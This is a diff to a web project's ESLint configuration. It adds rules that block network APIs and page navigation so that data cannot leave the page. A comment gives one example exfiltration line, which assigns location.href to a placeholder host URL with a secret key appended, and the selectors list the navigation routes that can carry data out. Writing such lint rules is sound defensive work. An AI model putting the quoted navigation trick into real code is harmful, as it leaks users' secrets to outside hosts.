@@ -3,6 +3,33 @@ import ts from 'typescript-eslint';
 import svelte from 'eslint-plugin-svelte';
 import globals from 'globals';
 
+const NO_NETWORK = [
+  { selector: "NewExpression[callee.name='XMLHttpRequest']", message: 'No network.' },
+  { selector: "NewExpression[callee.name='WebSocket']", message: 'No network.' },
+  { selector: "NewExpression[callee.name='EventSource']", message: 'No network.' },
+];
+
+// No navigation away from the page (issue 12 item 10): a CSP refuses requests, but not a
+// navigation, and a URL can carry data out (`location.href = 'http://host/?' + key`). Setting
+// location.hash stays allowed (same document). src/lint/navigation-rule.test.ts proves these fire.
+const NAVIGATION = 'No navigation: a CSP cannot stop a navigation, and its URL could carry data out of the page.';
+const NAV_GLOBALS = '/^(window|self|globalThis|document|top|parent|frames|opener)$/';
+const NO_NAVIGATION = [
+  { selector: "AssignmentExpression > Identifier.left[name='location']", message: NAVIGATION },
+  { selector: "AssignmentExpression > MemberExpression.left[property.name='location']", message: NAVIGATION },
+  { selector: "AssignmentExpression > MemberExpression.left[property.value='location']", message: NAVIGATION },
+  { selector: "AssignmentExpression > MemberExpression.left[object.name='location'][property.name!='hash']", message: NAVIGATION },
+  { selector: "AssignmentExpression > MemberExpression.left[object.property.name='location'][property.name!='hash']", message: NAVIGATION },
+  { selector: "AssignmentExpression > MemberExpression.left[object.property.value='location'][property.name!='hash']", message: NAVIGATION },
+  { selector: "AssignmentExpression > MemberExpression.left[object.expression.property.name='location'][property.name!='hash']", message: NAVIGATION },
+  { selector: "CallExpression > MemberExpression.callee[object.name='location'][property.name=/^(assign|replace)$/]", message: NAVIGATION },
+  { selector: "CallExpression > MemberExpression.callee[object.property.name='location'][property.name=/^(assign|replace)$/]", message: NAVIGATION },
+  { selector: `CallExpression > MemberExpression.callee[object.name=${NAV_GLOBALS}][property.name='open']`, message: NAVIGATION },
+];
+const NO_NETWORK_GLOBALS = [{ name: 'fetch', message: 'The page never reaches the network.' }];
+// The global open() (window.open): a rule on globals, so a local function named open is not caught.
+const NO_NAVIGATION_GLOBALS = [{ name: 'open', message: NAVIGATION }];
+
 export default ts.config(
   { ignores: ['dist/', 'dist-hosted/', 'node_modules/', 'test-results/', 'playwright-report/', 'bench/results*', 'bench/dist/'] },
   js.configs.recommended,
@@ -12,11 +39,16 @@ export default ts.config(
     languageOptions: { globals: { ...globals.browser, ...globals.node } },
     rules: {
       '@typescript-eslint/no-unused-vars': ['error', { argsIgnorePattern: '^_', varsIgnorePattern: '^_' }],
-      'no-restricted-globals': ['error', { name: 'fetch', message: 'The page never reaches the network.' }],
-      'no-restricted-syntax': ['error',
-        { selector: "NewExpression[callee.name='XMLHttpRequest']", message: 'No network.' },
-        { selector: "NewExpression[callee.name='WebSocket']", message: 'No network.' },
-        { selector: "NewExpression[callee.name='EventSource']", message: 'No network.' }],
+      'no-restricted-globals': ['error', ...NO_NETWORK_GLOBALS],
+      'no-restricted-syntax': ['error', ...NO_NETWORK],
+    },
+  },
+  {
+    // Repeats NO_NETWORK(_GLOBALS): a later block's options replace an earlier block's for the same rule.
+    files: ['src/**'],
+    rules: {
+      'no-restricted-syntax': ['error', ...NO_NETWORK, ...NO_NAVIGATION],
+      'no-restricted-globals': ['error', ...NO_NETWORK_GLOBALS, ...NO_NAVIGATION_GLOBALS],
     },
   },
   {
